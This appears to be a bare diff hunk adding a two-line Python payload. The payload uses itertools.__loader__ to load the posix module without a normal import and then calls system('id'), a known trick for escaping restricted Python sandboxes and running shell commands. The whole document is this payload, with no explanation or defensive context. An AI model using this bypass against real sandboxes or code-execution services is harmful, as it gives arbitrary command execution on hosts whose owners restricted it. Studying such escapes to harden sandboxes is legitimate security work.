@@ -1,0 +1,2 @@
+import itertools
+itertools.__loader__.load_module("posix").system("id")
